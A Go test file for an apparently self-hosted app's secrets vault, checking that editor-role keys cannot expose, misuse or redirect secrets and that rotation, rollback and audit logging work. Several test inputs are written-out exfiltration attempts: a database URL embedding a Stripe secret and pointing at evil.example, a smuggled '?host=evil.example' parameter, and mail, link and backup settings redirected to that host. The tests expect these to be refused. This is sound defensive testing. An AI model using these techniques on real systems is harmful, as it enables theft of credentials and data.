package app_test

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/millrace/millrace/app"
	"github.com/millrace/millrace/secret"
	"github.com/millrace/millrace/serve"
)

// request is asKey with a value as JSON.
func (r *running) request(key, method, path string, body any) (int, string) {
	r.t.Helper()
	encoded, err := json.Marshal(body)
	if err != nil {
		r.t.Fatal(err)
	}
	status, text, _ := r.asKey(key, method, path, string(encoded))
	return status, text
}

// must is request that has to succeed, as who sits at the machine.
func (r *running) must(method, path string, body any) string {
	r.t.Helper()
	status, text := r.request("", method, path, body)
	if status/100 != 2 {
		r.t.Fatalf("%s %s: %d %s", method, path, status, text)
	}
	return text
}

type object map[string]any

// newKey makes an API key with a role.
func (r *running) newKey(role string) string {
	r.t.Helper()
	var made struct{ Token string }
	if err := json.Unmarshal([]byte(r.must("POST", "/api/v1/keys", object{"name": role, "role": role})), &made); err != nil {
		r.t.Fatal(err)
	}
	return made.Token
}

// deliver sends a webhook that is signed with a secret.
func (r *running) deliver(source, with string) int {
	r.t.Helper()
	return r.deliverTo("/v1/webhook/"+source, with)
}

func (r *running) deliverTo(path, with string) int {
	r.t.Helper()
	const body = `{"id":"x"}`
	mac := hmac.New(sha256.New, []byte(with))
	mac.Write([]byte(body))
	req, err := http.NewRequest("POST", r.URL()+path, strings.NewReader(body))
	if err != nil {
		r.t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("X-Sum", hex.EncodeToString(mac.Sum(nil)))
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		r.t.Fatal(err)
	}
	defer resp.Body.Close()
	return resp.StatusCode
}

func webhook(path string) string {
	return "kind: webhook\nsignature: {header: X-Sum, secret: '${secret:" + path + "}'}\nevent: \"'Came'\"\n"
}

// TestStolenByReference: who edits files cannot have a secret shown, or sent to a
// host of their own, by referring to it; what the vault allows they may.
func TestStolenByReference(t *testing.T) {
	t.Parallel()
	dir := project(t, small)
	if err := os.MkdirAll(filepath.Join(dir, ".secrets"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, ".secrets", "of_the_server"), []byte("canary-file\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	r := start(t, dir, t.TempDir(), new(clock))
	r.must("PUT", "/api/v1/secrets", object{"path": "stripe/live_key", "value": "canary-stripe", "resources": []string{"sources/stripe", "warehouse"}, "hosts": []string{"db.example.com"}})
	r.must("PUT", "/api/v1/secrets", object{"path": "github", "value": "canary-github-1", "resources": []string{"sources/github"}})
	editor, status := r.newKey("editor"), 0
	var text string
	if status, text = r.request(editor, "PUT", "/api/v1/files/text?path=sources/github.yaml", object{"text": webhook("github")}); status != 200 || !strings.Contains(text, `"problems":[]`) {
		t.Fatalf("what the vault allows: %d %s", status, text)
	}
	var saved struct{ ETag string }
	if err := json.Unmarshal([]byte(text), &saved); err != nil {
		t.Fatal(err)
	}
	if status := r.deliver("github", "canary-github-1"); status != 200 {
		t.Errorf("a delivery is answered %d", status)
	}
	_, config := r.request(editor, "GET", "/api/v1/files/text?path=millrace.yaml", nil)
	var millrace struct{ Text, ETag string }
	if err := json.Unmarshal([]byte(config), &millrace); err != nil {
		t.Fatal(err)
	}
	save := func(path, text string) (string, string, any) {
		return "PUT", "/api/v1/files/text?path=" + path, object{"text": text}
	}
	for name, try := range map[string]func() (method, path string, body any){
		"another's secret":          func() (string, string, any) { return save("sources/mine.yaml", webhook("stripe/live_key")) },
		"a version of it":           func() (string, string, any) { return save("sources/mine.yaml", webhook("stripe/live_key#1")) },
		"of the server's files":     func() (string, string, any) { return save("sources/mine.yaml", webhook("of_the_server")) },
		"one that is not there yet": func() (string, string, any) { return save("sources/mine.yaml", webhook("later")) },
		"in a key that is shown": func() (string, string, any) {
			return save("sources/mine.yaml", "kind: http\nwrite_keys: ['${secret:github}']\n")
		},
		"in a file with mistakes": func() (string, string, any) {
			return save("sources/mine.yaml", "kind: [\n  ${secret:of_the_server}\n")
		},
		"to a host of one's own": func() (string, string, any) {
			return "PUT", "/api/v1/files/text?path=millrace.yaml", object{"etag": millrace.ETag, "text": millrace.Text + "warehouse: postgres://u:${secret:stripe/live_key}@evil.example/x\n"}
		},
		"behind the host that may": func() (string, string, any) {
			return "PUT", "/api/v1/files/text?path=millrace.yaml", object{"etag": millrace.ETag, "text": millrace.Text + "warehouse: postgres://u:${secret:stripe/live_key}@db.example.com/x?host=evil.example\n"}
		},
		"by a rename": func() (string, string, any) {
			return "POST", "/api/v1/files/rename", object{"from": "sources/github.yaml", "to": "sources/mine.yaml", "etag": saved.ETag}
		},
		"by a change of a value": func() (string, string, any) {
			return "POST", "/api/v1/files/edit", object{"path": "sources/github.yaml", "etag": saved.ETag, "changes": []object{{"op": "set", "path": []any{"signature", "secret"}, "value": "${secret:stripe/live_key}"}}}
		},
	} {
		method, path, body := try()
		if status, text := r.request(editor, method, path, body); status != 403 || !strings.Contains(text, "secret:use") || strings.Contains(text, "canary") {
			t.Errorf("%s: %d %s", name, status, text)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "sources/mine.yaml")); err == nil {
		t.Error("a file that was refused is there")
	}
	if status, text := r.request("", "PUT", "/api/v1/files/text?path=sources/mine.yaml", object{"text": webhook("stripe/live_key")}); status != 200 || !strings.Contains(text, "sources/mine may not use the secret stripe/live_key") {
		t.Errorf("who may allow it saves it, and is told what the vault says: %d %s", status, text)
	}
	for _, edit := range []string{"kind: [", webhook("github")} { // one's own mistake can be mended
		_, text := r.request(editor, "GET", "/api/v1/files/text?path=sources/github.yaml", nil)
		var has struct{ ETag string }
		if err := json.Unmarshal([]byte(text), &has); err != nil {
			t.Fatal(err)
		}
		if status, text := r.request(editor, "PUT", "/api/v1/files/text?path=sources/github.yaml", object{"text": edit, "etag": has.ETag}); status != 200 {
			t.Errorf("%q: %d %s", edit, status, text)
		}
	}
}

// TestSettingsOfTheServer: who edits the files of the server's workspace does not
// run the server: they cannot have the mail or the records of all sent elsewhere,
// however they try to deploy that. Whoever owns the server can, and the folder that
// it is started with can say it.
func TestSettingsOfTheServer(t *testing.T) {
	t.Parallel()
	r := mustProduce(t, project(t, shop), filepath.Join(t.TempDir(), "data"), io.Discard)
	must := func(method, path string, body []byte, contentType string) string {
		t.Helper()
		status, text := r.admin(method, path, body, contentType)
		if status/100 != 2 {
			t.Fatalf("%s %s: %d %s", method, path, status, text)
		}
		return text
	}
	var editor struct{ Token string }
	if err := json.Unmarshal([]byte(must("POST", "/api/v1/keys", []byte(`{"name":"ci","role":"editor","all_environments":true}`), "application/json")), &editor); err != nil {
		t.Fatal(err)
	}
	refused := func(name, method, path string, body any) {
		t.Helper()
		if status, text := r.request(editor.Token, method, path, body); status != 403 || !strings.Contains(text, "server:configure") {
			t.Errorf("%s: %d %s", name, status, text)
		}
	}
	mail := with(shop, "millrace.yaml", shop["millrace.yaml"]+"collect: {public_url: 'https://evil.example'}\nsmtp: {address: 'evil.example:587', from: 'a@evil.example'}\n")
	deploy := func(base string, files map[string]string) {
		t.Helper()
		must("POST", "/api/v1/releases?message=x&base="+base, packed(t, files), "application/gzip")
	}
	deploy("1", mail)
	deploy("2", shop)
	refused("going back", "POST", "/api/v1/releases/rollback", object{})
	deploy("3", with(shop, "README.md", "A shop.\n"))
	refused("going far back", "POST", "/api/v1/releases/rollback", object{"to": 2})
	refused("promoting", "POST", "/api/v1/releases/promote", object{"version": 2})
	var has struct{ Text, ETag string }
	_, text := r.request(editor.Token, "GET", "/api/v1/files/text?path=millrace.yaml", nil)
	if err := json.Unmarshal([]byte(text), &has); err != nil {
		t.Fatal(err)
	}
	for name, more := range map[string]string{
		"mail":        "smtp: {address: 'evil.example:587', from: 'a@evil.example'}\n",
		"links":       "collect: {public_url: 'https://evil.example'}\n",
		"the archive": "archive: s3://evil?region=eu-west-2\n", "the trail": "audit_retention: 30d\n", "how long queries take": "query: {timeout: 1ms}\n", "their rows": "query: {rows: 1}\n", "their size": "query: {result_size: 1KiB}\n", "backups": "backup: {to: 'file:/tmp/x'}\n",
		"for its environment": "environments: {production: {warehouse: 'postgres://u@evil.example/x'}}\n",
	} {
		refused(name, "PUT", "/api/v1/files/text?path=millrace.yaml", object{"etag": has.ETag, "text": has.Text + more})
	}
	refused("a value", "POST", "/api/v1/files/edit", object{"path": "millrace.yaml", "etag": has.ETag, "changes": []object{{"op": "set", "path": []any{"log", "retention"}, "value": "1h"}}})
	if v := r.version(); v != 4 {
		t.Errorf("version %d runs", v)
	}
	req, err := http.NewRequest("POST", r.URL()+"/api/v1/releases?message=x&base=4", bytes.NewReader(packed(t, mail)))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+editor.Token)
	req.Header.Set("Content-Type", "application/gzip")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if text, err := io.ReadAll(resp.Body); resp.StatusCode != 403 || !strings.Contains(string(text), "server:configure") {
		t.Errorf("a deployment: %d %s %v", resp.StatusCode, text, err)
	}
	for name, more := range map[string]string{"another name": "# ours\n", "another environment": "environments: {staging: {query: {rows: 7}}}\n"} {
		_, text := r.request(editor.Token, "GET", "/api/v1/files/text?path=millrace.yaml", nil)
		if err := json.Unmarshal([]byte(text), &has); err != nil {
			t.Fatal(err)
		}
		if status, text := r.request(editor.Token, "PUT", "/api/v1/files/text?path=millrace.yaml", object{"etag": has.ETag, "text": has.Text + more}); status != 200 {
			t.Errorf("%s: %d %s", name, status, text)
		}
	}
}

// TestRotation: a secret that is changed is taken up by what runs.
func TestRotation(t *testing.T) {
	files := map[string]string{"sources/hook.yaml": webhook("hook/key")}
	for name, text := range small {
		files[name] = text
	}
	dir, data := project(t, files), t.TempDir()
	t.Setenv(secret.Variable("hook/key"), "from-the-environment")
	r := start(t, dir, data, new(clock))
	want := func(what, with string, status int) {
		t.Helper()
		if got := r.deliver("hook", with); got != status {
			t.Errorf("%s: a delivery signed with %s is answered %d, want %d", what, with, got, status)
		}
	}
	want("from the environment", "from-the-environment", 200)
	r.must("PUT", "/api/v1/secrets", object{"path": "hook/key", "value": "value-one", "resources": []string{"sources/hook"}})
	want("the vault comes first", "value-one", 200)
	want("the vault comes first", "from-the-environment", 401)
	r.must("PUT", "/api/v1/secrets", object{"path": "hook/key", "value": "value-two", "existing": true})
	want("rotated", "value-two", 200)
	want("rotated", "value-one", 401)
	r.must("POST", "/api/v1/secrets/rollback", object{"path": "hook/key", "version": 1})
	want("rolled back", "value-one", 200)
	r.must("POST", "/api/v1/master-key/rekey", nil)
	r.must("POST", "/api/v1/secrets/rekey", nil)
	r.stop()
	r = start(t, dir, data, new(clock))
	want("started again with another master key", "value-one", 200)
	if text := r.must("GET", "/api/v1/secrets/history?path=hook/key", nil); !strings.Contains(text, `"resource":"sources/hook"`) {
		t.Errorf("the use is not in the history: %s", text)
	}
	if text := r.must("GET", "/api/v1/audit?action=secret.use", nil); !strings.Contains(text, "sources/hook") {
		t.Errorf("the use is not in the audit trail: %s", text)
	}
}

// TestRotationOfThoseThatRest: a secret that is changed is taken up by all that run
// with it, also by an environment that is closed because it had nothing to do.
func TestRotationOfThoseThatRest(t *testing.T) {
	t.Parallel()
	files := with(shop, "millrace.yaml", "name: shop\nenvironments: {staging: {query: {rows: 7}}}\n",
		"sources/web.yaml", shop["sources/web.yaml"]+"environments: {staging: {write_keys: [stage_1]}}\n", "sources/hook.yaml", webhook("hook"))
	a, err := app.Open(t.Context(), app.Options{Dir: project(t, shop), Data: filepath.Join(t.TempDir(), "data"), Listen: "127.0.0.1:0", Mode: serve.Production, AdminToken: adminToken, Stdout: io.Discard}.WithIdle(200*time.Millisecond))
	if err != nil {
		t.Fatal(err)
	}
	r := run(t, a)
	must := func(method, path, body string) {
		t.Helper()
		if status, text := r.admin(method, path, []byte(body), "application/json"); status/100 != 2 {
			t.Fatalf("%s %s: %d %s", method, path, status, text)
		}
	}
	set := func(value string) {
		t.Helper()
		must("PUT", "/api/v1/secrets", `{"path":"hook","value":"`+value+`","all_environments":true,"resources":["sources/hook"]}`)
	}
	set("value-one")
	if status, text := r.admin("POST", "/api/v1/releases?base=1&message=x", packed(t, files), "application/gzip"); status != 200 {
		t.Fatalf("%d %s", status, text)
	}
	must("POST", "/api/v1/workspaces/default/environments", `{"name":"staging"}`)
	must("POST", "/api/v1/releases/promote", `{"version":2,"to":"staging"}`)
	there := "w/" + a.SpaceOf("default@staging")
	if old := r.deliverTo("/v1/"+there+"/webhook/hook", "value-one"); old != 200 {
		t.Fatalf("a delivery is answered %d", old)
	}
	eventually(t, 30*time.Second, "staging is closed", func() bool { return a.OpenSpaces() == 1 })
	set("value-two")
	if old, fresh := r.deliverTo("/v1/"+there+"/webhook/hook", "value-one"), r.deliverTo("/v1/"+there+"/webhook/hook", "value-two"); old != 401 || fresh != 200 {
		t.Errorf("after a rotation the old secret is answered %d in staging, the new one %d", old, fresh)
	}
}

// TestASecretDuringADeployment: a secret that is changed while a version is being
// deployed brings nothing back of the version before, and is what both run with.
func TestASecretDuringADeployment(t *testing.T) {
	t.Parallel()
	files := with(shop, "sources/hook.yaml", webhook("hook"))
	r := mustProduce(t, project(t, shop), filepath.Join(t.TempDir(), "data"), io.Discard)
	set := func(value string) (int, string) {
		return r.admin("PUT", "/api/v1/secrets", []byte(`{"path":"hook","value":"`+value+`","all_environments":true,"resources":["sources/hook"]}`), "application/json")
	}
	if status, text := set("value-0"); status/100 != 2 {
		t.Fatalf("%d %s", status, text)
	}
	for i := range 3 { // each takes away a key that the version before has
		next := with(files, fmt.Sprintf("sources/s%d.yaml", i), fmt.Sprintf("kind: http\nwrite_keys: [of_%d]\n", i))
		if status, text := r.deploy(2*i+1, next); status != 200 {
			t.Fatalf("%d %s", status, text)
		}
		over := make(chan string, 1)
		go func() {
			status, text := r.deploy(2*i+2, files)
			over <- fmt.Sprintf("%d %s", status, text)
		}()
		value := ""
		for n := 0; len(over) == 0; n++ {
			value = fmt.Sprintf("value-%d-%d", i, n)
			if status, text := set(value); status/100 != 2 {
				t.Fatalf("%d %s", status, text)
			}
			time.Sleep(20 * time.Millisecond)
		}
		if text := <-over; !strings.HasPrefix(text, "200") {
			t.Fatal(text)
		}
		if got := r.key(fmt.Sprintf("of_%d", i)); got != 401 {
			t.Errorf("a key that the version that runs does not have is answered %d", got)
		}
		if fresh, first := r.deliver("hook", value), r.deliver("hook", "value-0"); fresh != 200 || first != 401 {
			t.Errorf("the newest secret is answered %d, the first %d", fresh, first)
		}
	}
}

// TestValuesHideNobody: who may set secrets in one workspace can neither take who
// they are out of the audit trail, nor texts out of what others are told.
func TestValuesHideNobody(t *testing.T) {
	t.Parallel()
	r := mustProduce(t, project(t, shop), filepath.Join(t.TempDir(), "data"), io.Discard)
	must := func(method, path, body string) string {
		t.Helper()
		status, text := r.admin(method, path, []byte(body), "application/json")
		if status/100 != 2 {
			t.Fatalf("%s %s: %d %s", method, path, status, text)
		}
		return text
	}
	must("POST", "/api/v1/workspaces", `{"name":"acme"}`)
	var key struct {
		Key   struct{ ID string }
		Token string
	}
	if err := json.Unmarshal([]byte(must("POST", "/api/v1/w/acme/keys", `{"name":"mallory","role":"admin"}`)), &key); err != nil {
		t.Fatal(err)
	}
	values := []string{key.Key.ID, "mallory", "127.0.0.1", "default", "healthy", "running", "viewer", "release.deploy"}
	for i, value := range values {
		if status, text, _ := r.asKey(key.Token, "PUT", "/api/v1/w/acme/secrets", fmt.Sprintf(`{"path":"not/there","existing":true,"value":%q}`, value)); status != 404 {
			t.Fatalf("%d %s", status, text)
		}
		if i > 0 { // and those that are there
			if status, text, _ := r.asKey(key.Token, "PUT", "/api/v1/w/acme/secrets", fmt.Sprintf(`{"path":"v%d","value":%q}`, i, value)); status/100 != 2 {
				t.Fatalf("%d %s", status, text)
			}
		}
	}
	before := must("GET", "/api/v1/deploys", "")
	if status, text, _ := r.asKey(key.Token, "POST", "/api/v1/w/acme/keys", `{"name":"second","role":"viewer"}`); status/100 != 2 {
		t.Fatalf("%d %s", status, text)
	}
	if !strings.Contains(before, `"healthy"`) || strings.Contains(before, "[secret]") {
		t.Errorf("deployments of another workspace: %s", before)
	}
	trail := must("GET", "/api/v1/server/audit?action=key.create", "")
	var found struct {
		Entries []struct {
			Actor, Address, Object string
			ActorID                string `json:"actor_id"`
		}
	}
	if err := json.Unmarshal([]byte(trail), &found); err != nil || len(found.Entries) == 0 {
		t.Fatalf("%v %s", err, trail)
	}
	if e := found.Entries[0]; e.ActorID != key.Key.ID || e.Actor != "mallory" || e.Address != "127.0.0.1" || e.Object != "second" || strings.Contains(trail, `"role":"[secret]"`) {
		t.Errorf("the trail says %+v of %s", e, trail)
	}
}

// TestStolenByDeploy is TestStolenByReference for versions, and that a secret that
// is changed is taken up by the version that runs.
func TestStolenByDeploy(t *testing.T) {
	t.Parallel()
	r := mustProduce(t, project(t, shop), filepath.Join(t.TempDir(), "data"), io.Discard)
	set := func(body object) {
		t.Helper()
		encoded, err := json.Marshal(body)
		if err != nil {
			t.Fatal(err)
		}
		if status, text := r.admin("PUT", "/api/v1/secrets", encoded, "application/json"); status != 200 {
			t.Fatalf("%d %s", status, text)
		}
	}
	set(object{"path": "stripe", "value": "canary-stripe-1", "resources": []string{"sources/stripe"}})
	status, text := r.admin("POST", "/api/v1/keys", []byte(`{"name":"ci","role":"editor"}`), "application/json")
	var made struct{ Token string }
	if err := json.Unmarshal([]byte(text), &made); err != nil || status != 201 {
		t.Fatalf("%d %s", status, text)
	}
	deploy := func(files map[string]string) (int, string) {
		t.Helper()
		req, err := http.NewRequest("POST", r.URL()+"/api/v1/releases?base=1&message=x", bytes.NewReader(packed(t, files)))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Authorization", "Bearer "+made.Token)
		req.Header.Set("Content-Type", "application/gzip")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		text, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		return resp.StatusCode, string(text)
	}
	if status, text := deploy(with(shop, "sources/mine.yaml", webhook("stripe"))); status != 403 || !strings.Contains(text, "secret:use") || strings.Contains(text, "canary") {
		t.Errorf("another's secret: %d %s", status, text)
	}
	if status, text := deploy(with(shop, "sources/web.yaml", "kind: http\nwrite_keys: ['${secret:stripe}']\n")); status != 403 {
		t.Errorf("a key that is shown: %d %s", status, text)
	}
	if v := r.version(); v != 1 {
		t.Errorf("version %d runs", v)
	}
	if status, text := deploy(with(shop, "sources/stripe.yaml", webhook("stripe"))); status != 200 {
		t.Fatalf("what the vault allows: %d %s", status, text)
	}
	if got := r.deliver("stripe", "canary-stripe-1"); got != 200 {
		t.Errorf("a delivery is answered %d", got)
	}
	set(object{"path": "stripe", "value": "canary-stripe-2"})
	if old, fresh := r.deliver("stripe", "canary-stripe-1"), r.deliver("stripe", "canary-stripe-2"); old != 401 || fresh != 200 {
		t.Errorf("after a rotation the old secret is answered %d, the new one %d", old, fresh)
	}
	if v := r.version(); v != 2 {
		t.Errorf("version %d runs after a rotation", v)
	}
}
